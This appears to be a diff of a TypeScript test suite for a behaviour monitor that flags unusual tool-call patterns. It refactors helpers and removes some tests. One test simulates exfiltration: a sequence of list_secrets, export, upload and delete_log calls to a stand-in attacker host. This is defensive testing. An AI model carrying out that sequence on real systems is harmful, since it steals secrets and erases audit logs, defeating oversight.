@@ -1,47 +1,5 @@
-import type { AuditEvent } from '../../lambda/audit';
-import { createBehaviourMonitor, DEFAULT_BEHAVIOUR_SETTINGS, type BehaviourMonitor, type BehaviourSettings, type Detection } from '../../lambda/behaviour';
-import type { JsonObject } from '../../lambda/protocol';
-import { eventWith } from '../audit/events';
-
-const MINUTE = 60_000;
-const HOUR = 60 * MINUTE;
-const alice = { type: 'User', id: 'alice', issuer: 'https://issuer.example' };
-const keyOf = ({ issuer, type, id }: typeof alice) => JSON.stringify([issuer, type, id]);
-
-class Stand {
-  now = Date.parse('2026-11-02T08:00:00Z');
-  readonly detections: Detection[] = [];
-  readonly monitor: BehaviourMonitor;
-
-  constructor(settings: Partial<BehaviourSettings> = {}) {
-    this.monitor = createBehaviourMonitor({ settings, onDetection: (detection) => this.detections.push(detection) });
-  }
-
-  /** A call with its outcome; answers the risk that policies would have read. */
-  call(tool: string, args: JsonObject, outcome: Partial<AuditEvent> = {}, principal = alice): number {
-    const risk = this.monitor.assess({ principal: keyOf(principal), server: 'files', tool, arguments: args, now: this.now });
-    this.event({ method: 'tools/call', server: 'files', target: tool, responseBytes: 2_000, ...outcome, principal });
-    return risk;
-  }
-
-  event(overrides: Partial<AuditEvent>): void {
-    this.monitor.sink.write(eventWith({ decision: 'allow', httpStatus: 200, sourceIp: '192.0.2.7', ...overrides, time: new Date(this.now).toISOString() }));
-  }
-
-  /** A morning of somebody who searches, reads, and sometimes writes. */
-  work(calls: number, everyMs = MINUTE, principal = alice): void {
-    for (let i = 0; i < calls; i++) {
-      this.now += everyMs;
-      if (i % 3 === 0) this.call('search', { query: `topic ${i}` }, { responseBytes: 3_000 + (i % 7) * 200 }, principal);
-      else if (i % 10 === 7) this.call('write', { path: `notes/${i}.md`, text: 'a line' }, { responseBytes: 120 }, principal);
-      else this.call('read', { path: `notes/${i}.md` }, { responseBytes: 1_500 + (i % 11) * 100 }, principal);
-    }
-  }
-
-  get kinds(): string[] {
-    return this.detections.map(({ kind }) => kind);
-  }
-}
+import { DEFAULT_BEHAVIOUR_SETTINGS } from '../../lambda/behaviour';
+import { alice, HOUR, keyOf, MINUTE, Stand } from './stand';
 
 describe('habits of a principal', () => {
   test('CV-2 a day as usual raises nothing', () => {
@@ -96,7 +54,7 @@ describe('habits of a principal', () => {
     expect(stand.kinds).toEqual(['size']);
   });
 
-  test('LOG-3 an unusual sequence of tools, with a destination that is new', () => {
+  test('LOG-3 HOST-1 an unusual sequence of tools, with a destination that is new', () => {
     const stand = new Stand();
     stand.work(200);
     const risks = ['list_secrets', 'export', 'upload', 'delete_log'].map((tool) => stand.call(tool, { url: 'https://drop.attacker.example/in' }));
@@ -115,33 +73,6 @@ describe('habits of a principal', () => {
       for (let k = 0; k < 6; k++) stand.call('read', { path: `more/${i}-${k}.md` }, { responseBytes: 9_500 });
     }
     expect(stand.kinds).toContain('volume');
-  });
-
-  test('CV-2 slow poisoning of the baseline: who raises what is usual step by step is found before it is far', () => {
-    const stand = new Stand();
-    stand.work(300);
-    let size = 2_000;
-    for (let day = 0; day < 20 && !stand.kinds.includes('size'); day++) {
-      for (let i = 0; i < 40; i++) {
-        stand.now += 10 * MINUTE;
-        stand.call('read', { path: `notes/${i}.md` }, { responseBytes: Math.round(size) });
-      }
-      size *= 1.5;
-    }
-    expect(stand.kinds).toContain('size');
-    expect(size).toBeLessThan(2_000 * 2 ** 6);
-  });
-
-  test('CV-2 one burst does not make a new destination familiar', () => {
-    const stand = new Stand();
-    stand.work(100);
-    const send = () => stand.call('read', { path: 'https://drop.example/' });
-    for (let i = 0; i < 10; i++) send();
-    stand.now += 24 * HOUR;
-    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
-    expect(new Stand().call('read', {})).toBe(0);
-    // Met often, over more than half an hour: by now a habit.
-    expect(send()).toBeLessThan(25);
   });
 
   test('LOG-3 failures of authentication and then a success, from one address', () => {
@@ -183,12 +114,6 @@ describe('habits of a principal', () => {
     expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(20);
     stand.now += 24 * HOUR;
     expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
-  });
-
-  test('TB-1 memory is bounded, whatever is called', () => {
-    const stand = new Stand({ maxPrincipals: 10 });
-    for (let i = 0; i < 3_000; i++) stand.call(`t${i}`, { [`k${i}`]: 'x'.repeat(i), u: `https://h${i}.example` }, {}, { ...alice, id: `p${i % 50}` });
-    expect(stand.monitor.riskOf(keyOf({ ...alice, id: 'p0' }), stand.now)).toBe(0);
   });
 
   test('one principal does not raise the risk of another', () => {
